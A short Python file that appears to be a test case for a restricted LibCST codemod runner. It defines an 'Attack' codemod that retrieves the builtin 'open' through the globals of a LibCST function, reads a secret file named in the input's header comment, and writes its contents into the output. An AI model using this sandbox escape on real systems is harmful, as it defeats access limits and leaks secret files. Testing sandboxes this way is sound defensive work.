"""Take ``open`` out of the globals of a function of LibCST's."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    builtins = cst.parse_module.__globals__["__builtins__"]
    return builtins["open"](path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a function."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
